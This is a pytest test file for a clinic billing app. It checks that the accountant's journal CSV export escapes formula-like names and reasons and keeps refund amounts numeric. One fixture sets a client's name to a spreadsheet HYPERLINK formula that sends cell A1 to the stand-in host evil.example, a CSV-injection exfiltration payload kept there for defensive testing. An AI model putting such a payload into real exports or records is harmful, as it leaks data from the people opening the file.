"""The journal CSV is opened in a spreadsheet by the accountant: a client's name or a reason that starts like a
formula (a record imported from another system, a name typed at the desk) stays text there, and amounts, a
refund's negative ones included, stay numbers."""

import csv
import io
from decimal import Decimal

import pytest
from django.utils import timezone

from nervecare.billing import reports
from nervecare.billing.services.invoices import invoice_checkout
from nervecare.billing.services.payments import payment_record, payment_refund

pytestmark = pytest.mark.django_db


def test_formula_like_text_is_neutralised_and_amounts_stay_numbers(shop):
    shop.client.first_name = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
    shop.client.last_name = "+Quill"
    shop.client.save()
    invoice = invoice_checkout(actor=shop.desk, client=shop.client, appointment_ids=[shop.visits[0].pk])
    payment = payment_record(actor=shop.desk, invoice=invoice, method="cash", amount=invoice.total)
    payment_refund(actor=shop.admin, payment=payment, amount=Decimal("10.00"), reason="@SUM(1+1) goodwill")
    today = timezone.localdate()
    rows = list(csv.DictReader(io.StringIO(reports.journal_csv(shop.clinic, today, today))))
    assert rows and all(r["client"].startswith("'=HYPERLINK") for r in rows)
    (refund,) = [r for r in rows if r["type"] == "refund"]
    assert refund["gross"] == "-10.00" and refund["net"] == "-10.00"
    assert "@SUM" in refund["description"] and not refund["description"].startswith(("=", "+", "-", "@"))
    assert all(not r[c].startswith(("=", "+", "@")) for r in rows for c in r)
